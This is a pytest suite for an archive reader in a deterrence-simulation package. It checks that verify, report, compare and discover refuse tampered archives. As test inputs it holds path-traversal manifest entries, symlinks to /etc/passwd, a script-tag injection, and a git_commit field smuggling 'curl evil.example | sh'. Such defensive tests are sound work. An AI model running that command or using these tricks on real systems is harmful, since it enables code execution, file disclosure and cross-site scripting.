"""Archives made to harm their reader are refused: a manifest naming files outside the
archive, links and fifos in it, edited provenance, a plan carrying markup or impossible
values, damaged NetCDF files and oversized files. Every archive command (verify, report,
compare, discover) exits 2 with one line naming the offending file or key, writes nothing,
and opens nothing outside the archive; the Python API raises ArchiveError."""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Callable
from contextlib import contextmanager
from pathlib import Path

import pytest
import xarray as xr
from typer.testing import CliRunner

from deterrence import api, cli
from deterrence.archive import manifest as archive_manifest
from deterrence.game.config import SCENARIOS_DIR

ROOT = Path(__file__).resolve().parent.parent
FORMATS = ("bilateral", "nato_lite")
SIMULATION, EXACT, PLAN = "data/simulation.nc", "data/exact.nc", "config/plan.json"
SWEEP_COPY, INDICES, FIGURE = "config/sweep.toml", "analysis/sensitivity.nc", \
    "figures/sensitivity.png"
SCRIPT = "<script>alert(1)</script>"
#: Seconds a command may take on an archive holding a fifo before it counts as blocked.
FIFO_TIMEOUT = 120
#: The archive commands, as on the command line after the archive.
COMMANDS = {"verify": [], "report": [], "compare": list(FORMATS), "discover": []}


# ---------------------------------------------------------------------------------------
# The archive: a tiny sweep with a sensitivity design, so that every file kind is there


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("pristine")
    sweep = folder / "hostile.toml"
    sweep.write_text(textwrap.dedent(f"""\
        name = "hostile"
        scenario = {json.dumps(str(SCENARIOS_DIR / "baseline.toml"))}
        formats = {json.dumps(list(FORMATS))}
        replicates = 2
        steps = 5

        [[axes]]
        path = "russia.war_cost"
        low = 0.1
        high = 0.3
        count = 2

        [[axes]]
        path = "format.commitment_bindingness"
        low = 0.2
        high = 0.8
        count = 2

        [sensitivity]
        method = "sobol"
        samples = 4
        """))
    archive, failures = api.run_sweep(api.load_plan(sweep), folder / "archive",
                                     source=sweep)
    assert failures == [] and archive is not None
    return archive


@pytest.fixture
def archive(pristine, tmp_path):
    """A copy of the archive in ``tmp_path/work`` that a test may damage; ``tmp_path/outside``
    is a folder beside it holding a file the archive must not lead to. Removed after the
    test (an oversized plan is large)."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text("a secret outside the archive\n")
    yield Path(shutil.copytree(pristine, tmp_path / "work" / "archive", symlinks=True))
    shutil.rmtree(tmp_path / "work", ignore_errors=True)


# ---------------------------------------------------------------------------------------
# Helpers


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def manifest_of(archive: Path) -> dict:
    return json.loads((archive / "manifest.json").read_text())


def reseal(archive: Path, edit: Callable[[dict], None] = lambda m: None,
           update: tuple[str, ...] = ()) -> None:
    """Edit the manifest, refresh the checksums of ``update`` and write it with a valid
    digest: what a careful forger does, so that only the other checks can refuse it."""
    manifest = manifest_of(archive)
    edit(manifest)
    for name in update:
        manifest["files"][name] = sha256(archive / name)
    archive_manifest.write_manifest(archive, manifest)


def edit_plan(archive: Path, edit: Callable[[dict], None]) -> None:
    path = archive / PLAN
    plan = json.loads(path.read_text())
    edit(plan)
    path.write_text(json.dumps(plan))
    reseal(archive, update=(PLAN,))


def tree(root: Path) -> dict[str, tuple]:
    """Every entry under ``root`` (links not followed) with its kind, size and change time:
    two trees are equal if nothing was written, removed or changed."""
    entries = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            info = path.lstat()
            entries[str(path.relative_to(root))] = (info.st_mode, info.st_size,
                                                    info.st_mtime_ns)
    return entries


_opened: list[str] | None = None


def _audit(event: str, args: tuple) -> None:
    if _opened is not None and event == "open" and isinstance(args[0], str | bytes | os.PathLike):
        _opened.append(os.fsdecode(os.fspath(args[0])))


sys.addaudithook(_audit)


@contextmanager
def opened():
    """The paths opened by this process inside the block (Python's ``open`` audit event,
    raised by ``open`` and ``os.open``, so by every reader here)."""
    global _opened
    _opened = []
    try:
        yield _opened
    finally:
        _opened = None


def opened_outside(paths: list[str], tmp_path: Path) -> list[str]:
    """The paths that lead (through links too) to the folder beside the archive or to the
    system files the corpus points at."""
    forbidden = [os.path.realpath(tmp_path / "outside"), "/etc/passwd", "/etc/hostname"]
    return [p for p in paths if any(os.path.realpath(p).startswith(f) for f in forbidden)]


def run_cli(command: str, archive: Path) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli.app, [command, str(archive), *COMMANDS[command]])
    return result.exit_code, result.stdout, result.stderr


def assert_refused(code: int, stdout: str, stderr: str, needle: str) -> None:
    assert code == 2, (code, stdout, stderr)
    assert "Traceback" not in stderr and stdout == ""
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    assert lines[0].startswith("error: ") and needle in lines[0], (needle, lines[0])


API = {
    "verify": lambda a: api.verify(a),
    "load_archive": lambda a: api.load_archive(a),
    "compare_formats": lambda a: api.compare_formats(a, *FORMATS),
    "write_report": lambda a: api.write_report(a),
    "discover": lambda a: api.discover(a),
    "sensitivity": lambda a: api.sensitivity(a),
}


# ---------------------------------------------------------------------------------------
# The undamaged archive works with every command (so a refusal below is the damage's)


def test_the_undamaged_archive_passes_every_command(archive, tmp_path):
    for command in COMMANDS:
        code, stdout, stderr = run_cli(command, archive)
        assert code == 0, (command, stderr)
    assert (tmp_path / "work" / "archive.report" / "index.html").is_file()
    assert set(api.sensitivity(archive).format.values) == set(FORMATS)


# ---------------------------------------------------------------------------------------
# The corpus: each damage returns the text the one line of the refusal must contain


def traversal(archive: Path) -> str:
    secret = archive.parent.parent / "outside" / "secret.txt"
    reseal(archive, lambda m: m["files"].update({"../../outside/secret.txt": sha256(secret)}))
    return "'../../outside/secret.txt': not a path inside the archive"


def traversal_through_a_folder(archive: Path) -> str:
    secret = archive.parent.parent / "outside" / "secret.txt"
    reseal(archive, lambda m: m["files"].update(
        {"data/../../../outside/secret.txt": sha256(secret)}))
    return "'data/../../../outside/secret.txt': not a path inside the archive"


def absolute_path(archive: Path) -> str:
    secret = (archive.parent.parent / "outside" / "secret.txt").resolve()
    reseal(archive, lambda m: m["files"].update({str(secret): sha256(secret)}))
    return f"{str(secret)!r}: not a path inside the archive"


def absolute_system_path(archive: Path) -> str:
    target = Path("/etc/hostname") if Path("/etc/hostname").is_file() else Path(sys.executable)
    reseal(archive, lambda m: m["files"].update({str(target): sha256(target)}))
    return f"{str(target)!r}: not a path inside the archive"


def _renamed(listed: str) -> Callable[[Path], str]:
    """The manifest lists data/simulation.nc under another spelling of its path."""
    def damage(archive: Path) -> str:
        def edit(m):
            m["files"][listed] = m["files"].pop(SIMULATION)
        reseal(archive, edit)
        return f"{listed!r}: not a path inside the archive"
    damage.__name__ = f"listed_as_{listed.encode('unicode_escape').decode()}"
    return damage


def symlinked_file(archive: Path) -> str:
    elsewhere = archive.parent.parent / "outside" / "simulation.nc"
    shutil.move(archive / SIMULATION, elsewhere)
    (archive / SIMULATION).symlink_to(elsewhere)
    return f"{archive / SIMULATION}: a symbolic link (to {elsewhere})"


def symlinked_folder(archive: Path) -> str:
    elsewhere = archive.parent.parent / "outside" / "data"
    shutil.move(archive / "data", elsewhere)
    (archive / "data").symlink_to(elsewhere, target_is_directory=True)
    return f"{archive / 'data'}: a symbolic link (to {elsewhere})"


def symlink_to_passwd(archive: Path) -> str:
    (archive / SWEEP_COPY).unlink()
    (archive / SWEEP_COPY).symlink_to("/etc/passwd")
    return f"{archive / SWEEP_COPY}: a symbolic link (to /etc/passwd)"


def symlinked_figure(archive: Path) -> str:
    (archive / FIGURE).unlink()
    (archive / FIGURE).symlink_to("/etc/passwd")
    return f"{archive / FIGURE}: a symbolic link (to /etc/passwd)"


def dangling_symlink(archive: Path) -> str:
    (archive / "notes.txt").symlink_to(archive.parent.parent / "outside" / "nothing-here")
    return f"{archive / 'notes.txt'}: a symbolic link"


def _provenance(key: str, edit: Callable[[dict], None]) -> Callable[[Path], str]:
    def damage(archive: Path) -> str:
        manifest = manifest_of(archive)
        edit(manifest)
        (archive / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True))
        return "manifest.json: edited after it was written (digest differs)"
    damage.__name__ = f"edited_{key}"
    return damage


def no_digest(archive: Path) -> str:
    manifest = manifest_of(archive)
    del manifest[archive_manifest.DIGEST_KEY]
    (archive / "manifest.json").write_text(json.dumps(manifest))
    return "manifest.json: no manifest_sha256"


def a_commit_that_is_a_command(archive: Path) -> str:
    reseal(archive, lambda m: m["code"].update(git_commit="HEAD; curl evil.example | sh"))
    return "key 'code.git_commit'"


def markup_in_an_axis_path(archive: Path) -> str:
    edit_plan(archive, lambda p: p["spec"]["axes"][0].update(path=SCRIPT))
    return f"key 'spec.axes.0.path' = {SCRIPT!r}: not a parameter of format 'bilateral'"


def _plan(name: str, edit: Callable[[dict], None], needle: str) -> Callable[[Path], str]:
    def damage(archive: Path) -> str:
        edit_plan(archive, edit)
        return f"plan.json: {needle}"
    damage.__name__ = f"plan_{name}"
    return damage


def _plan_text(name: str, value: str, needle: str) -> Callable[[Path], str]:
    """The plan's first point's first value written as the JSON text ``value``."""
    def damage(archive: Path) -> str:
        path = archive / PLAN
        plan = json.loads(path.read_text())
        plan["points"][0][0] = 12345.5
        path.write_text(json.dumps(plan).replace("12345.5", value, 1))
        reseal(archive, update=(PLAN,))
        return f"plan.json: {needle}"
    damage.__name__ = f"plan_{name}"
    return damage


def _set(key: str, value) -> Callable[[dict], None]:
    def edit(plan: dict) -> None:
        *path, last = key.split(".")
        target = plan
        for part in path:
            target = target[int(part)] if isinstance(target, list) else target[part]
        target[int(last) if isinstance(target, list) else last] = value
    return edit


def _damaged_netcdf(name: str, how: str) -> Callable[[Path], str]:
    def damage(archive: Path) -> str:
        path = archive / name
        data = path.read_bytes()
        path.write_bytes(data[:len(data) // 2] if how == "truncated"
                         else bytes((7 * i + 3) % 256 for i in range(len(data))))
        reseal(archive, update=(name,))
        return f"{path}: unreadable NetCDF ("
    damage.__name__ = f"{how}_{Path(name).stem}_{Path(name).parent.name}"
    return damage


def _oversized(name: str, limit: int) -> Callable[[Path], str]:
    def damage(archive: Path) -> str:
        path = archive / name
        text = path.read_text()
        padding = " " * (limit + 1 - len(text)) if name.endswith(".json") else \
            "#" * (limit + 1 - len(text))
        path.write_text(text + padding)  # still valid JSON or TOML
        if name != "manifest.json":
            reseal(archive, update=(name,))
        return f"{path}: {limit + 1:,} bytes, above the limit of {limit:,} bytes"
    damage.__name__ = f"oversized_{Path(name).name}"
    return damage


CORPUS = [
    traversal, traversal_through_a_folder, absolute_path, absolute_system_path,
    *(_renamed(name) for name in ("data/./simulation.nc", "data//simulation.nc",
                                  "data\\simulation.nc", "data/simulation.nc\0", "")),
    symlinked_file, symlinked_folder, symlink_to_passwd, symlinked_figure, dangling_symlink,
    _provenance("executor", lambda m: m.update(executor="processes")),
    _provenance("started", lambda m: m.update(started="2020-01-01T00:00:00+00:00")),
    _provenance("finished", lambda m: m.update(finished="2020-01-01T00:00:01+00:00")),
    _provenance("git_commit", lambda m: m["code"].update(git_commit="0" * 40)),
    _provenance("numpy_version", lambda m: m["packages"].update(numpy="1.0.0")),
    _provenance("platform", lambda m: m["platform"].update(system="Plan9")),
    _provenance("checksum", lambda m: m["files"].update({SIMULATION: "0" * 64})),
    no_digest, a_commit_that_is_a_command, markup_in_an_axis_path,
    _plan("point_outside_its_range", _set("points.0.0", 99.0),
          "key 'points.0.0' = 99.0: must be within the axis's range [0.1, 0.3]"),
    _plan_text("overflowing_point", "1e999", "key 'points.0.0'"),
    _plan_text("infinity", "Infinity", "unreadable plan (Infinity is not a JSON number)"),
    _plan_text("nan", "NaN", "unreadable plan (NaN is not a JSON number)"),
    _plan("point_as_text", _set("points.1.1", "0.2"), "key 'points.1.1'"),
    _plan("point_of_another_grid", _set("points.0.0", 0.3), "key 'points'"),
    _plan("grid_shape", _set("grid_shape", [4, 1]), "key 'grid_shape' = [4, 1]"),
    _plan("negative_seed", _set("seed", -1), "key 'seed'"),
    _plan("another_seed", _set("seed", 7), "key 'seed' = 7"),
    _plan("no_formats", _set("formats", {}), "key 'formats'"),
    _plan("design_point_outside", _set("sensitivity_points.0.0", -5.0),
          "key 'sensitivity_points.0.0' = -5.0"),
    _plan("unknown_key", _set("extra", 1), "key 'extra'"),
    *(_damaged_netcdf(name, how) for name in (SIMULATION, EXACT)
      for how in ("truncated", "garbage")),
    _damaged_netcdf(INDICES, "garbage"),
    _oversized("manifest.json", archive_manifest.MANIFEST_LIMIT),
    _oversized(PLAN, archive_manifest.PLAN_LIMIT),
    _oversized(SWEEP_COPY, archive_manifest.SWEEP_FILE_LIMIT),
]


@pytest.mark.parametrize("command", list(COMMANDS))
@pytest.mark.parametrize("damage", CORPUS, ids=lambda d: d.__name__)
def test_every_command_refuses_a_hostile_archive_in_one_line(damage, command, archive,
                                                              tmp_path):
    needle = damage(archive)
    before = tree(tmp_path)
    with opened() as paths:
        code, stdout, stderr = run_cli(command, archive)
    assert_refused(code, stdout, stderr, needle)
    assert tree(tmp_path) == before  # no report, nothing in the archive or beside it
    assert opened_outside(paths, tmp_path) == []


@pytest.mark.parametrize("damage", CORPUS, ids=lambda d: d.__name__)
def test_the_api_raises_archive_error(damage, archive, tmp_path):
    needle = damage(archive)
    before = tree(tmp_path)
    for name, call in API.items():
        with opened() as paths, pytest.raises(api.ArchiveError) as raised:
            call(archive)
        assert needle in str(raised.value), (name, str(raised.value))
        assert "\n" not in str(raised.value)
        assert opened_outside(paths, tmp_path) == [], name
    assert tree(tmp_path) == before


def test_the_corpus_is_refused_for_its_damage_alone(pristine, tmp_path):
    """Each damaged copy differs from the pristine archive only by its damage: the copy
    itself passes (guards against a corpus refused for a mistake in its making)."""
    copy = Path(shutil.copytree(pristine, tmp_path / "copy", symlinks=True))
    reseal(copy)  # a re-sealed, unchanged manifest is still valid
    assert api.verify(copy) == []
    edit_plan(copy, lambda p: None)  # a plan rewritten without change is still valid
    assert api.load_archive(copy).plan.to_json() == api.load_archive(pristine).plan.to_json()


# ---------------------------------------------------------------------------------------
# A fifo must not block the reader: in a process of its own, with a timeout


FIFO_API = """
import sys
from deterrence import api
for call in (api.verify, api.load_archive, api.write_report,
             lambda a: api.compare_formats(a, "bilateral", "nato_lite"), api.discover,
             api.sensitivity):
    try:
        call(sys.argv[1])
    except api.ArchiveError as exc:
        print(type(exc).__name__, exc)
    else:
        print("accepted")
"""


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no fifos on this system")
def test_a_fifo_in_the_archive_is_refused_without_blocking(archive, tmp_path):
    """In place of the sweep file, which the report reads whole: a reader that opened it
    would wait for a writer for ever."""
    (archive / SWEEP_COPY).unlink()
    os.mkfifo(archive / SWEEP_COPY)
    needle = f"{archive / SWEEP_COPY}: a fifo"
    before = tree(tmp_path)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for command, extra in COMMANDS.items():
        done = subprocess.run([sys.executable, "-m", "deterrence", command, str(archive),
                               *extra], capture_output=True, text=True, env=env,
                              timeout=FIFO_TIMEOUT)
        assert_refused(done.returncode, done.stdout, done.stderr, needle)
    done = subprocess.run([sys.executable, "-c", FIFO_API, str(archive)], capture_output=True,
                          text=True, env=env, timeout=FIFO_TIMEOUT)
    lines = done.stdout.splitlines()
    assert done.returncode == 0 and len(lines) == 6, done.stderr
    assert all(line.startswith("ArchiveError ") and needle in line for line in lines), lines
    assert tree(tmp_path) == before


# ---------------------------------------------------------------------------------------
# Values that reach the page are text, never markup


def test_markup_in_a_sealed_manifest_is_shown_as_text(archive, tmp_path):
    """A forger who recomputes the digest can put anything in the provenance; the report
    shows it escaped."""
    reseal(archive, lambda m: m.update(executor=SCRIPT, started=f"{SCRIPT} & more"))
    page = api.write_report(archive, tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert html.escape(SCRIPT, quote=False) in page or html.escape(SCRIPT) in page
    assert html.unescape(page).count(SCRIPT) == 2


def test_the_reader_refuses_before_the_report_is_written(archive, tmp_path):
    """The report folder given with --out does not appear for a refused archive."""
    markup_in_an_axis_path(archive)
    result = CliRunner().invoke(cli.app, ["report", str(archive), "--out",
                                          str(tmp_path / "report")])
    assert result.exit_code == 2 and not (tmp_path / "report").exists()


# ---------------------------------------------------------------------------------------
# The limits hold for what a sweep writes too: no archive its reader refuses


def test_a_sweep_whose_plan_exceeds_the_limit_is_refused_before_any_work(tmp_path,
                                                                         monkeypatch):
    from deterrence.archive import write

    plan = api.load_plan(ROOT / "configs" / "sweeps" / "reference.toml")
    size = len(json.dumps(plan.to_json(), indent=1))
    monkeypatch.setattr(write, "PLAN_LIMIT", size - 1)
    with pytest.raises(api.ConfigError, match=f"{size:,} bytes of config/plan.json"):
        api.run_sweep(plan, tmp_path / "archive")
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------
# Readable NetCDF files without what the plan gives them


def _rewritten(case: str, name: str, change: Callable, needle: str) -> Callable[[Path], str]:
    """A data file replaced by a readable one, changed, with its checksum refreshed."""
    def damage(archive: Path) -> str:
        path = archive / name
        with xr.open_dataset(path, engine="scipy") as ds:
            changed = change(ds.load())
        changed.to_netcdf(path, engine="scipy")
        reseal(archive, update=(name,))
        return f"{path}: {needle}"
    damage.__name__ = case
    return damage


MISMATCHED = [
    _rewritten("variable_missing", SIMULATION, lambda ds: ds.drop_vars("deterred_share"),
               "lacks deterred_share"),
    _rewritten("grid_cut", EXACT, lambda ds: ds.isel(russia__war_cost=[0]),
               "dimension russia__war_cost has 1 entries; the plan gives it 2"),
    _rewritten("formats_relabelled", SIMULATION,
               lambda ds: ds.assign_coords(format=list(reversed(FORMATS))),
               "formats differ from the plan's"),
    _rewritten("text_for_numbers", SIMULATION,
               lambda ds: ds.assign(escalation_frequency=ds.escalation_frequency.astype(str)),
               "variable escalation_frequency"),
    _rewritten("indices_of_another_method", INDICES,
               lambda ds: ds.assign_attrs(method="morris"), "the indices of a morris"),
]
#: Changes that leave every array as it was: ``verify`` compares arrays, not attributes.
SAME_ARRAYS = {"indices_of_another_method"}


@pytest.mark.parametrize("damage", MISMATCHED, ids=lambda d: d.__name__)
def test_a_data_file_that_does_not_fit_the_plan_is_refused(damage, archive, tmp_path):
    """Every reader checks a file's variables, dimensions, formats and coordinates against
    the plan; ``verify`` compares them with its re-run and names what differs (exit 1)."""
    needle = damage(archive)
    before = tree(tmp_path)
    for command in ("report", "compare", "discover"):
        assert_refused(*run_cli(command, archive), needle)
    for name in ("load_archive", "compare_formats", "write_report", "discover"):
        with pytest.raises(api.ArchiveError, match=re.escape(needle)):
            API[name](archive)
    if damage.__name__ not in SAME_ARRAYS:
        name = Path(needle.split(": ")[0]).relative_to(archive).as_posix()
        problems = api.verify(archive)
        assert problems and all(p.startswith(f"{name}: ") for p in problems), problems
    assert tree(tmp_path) == before
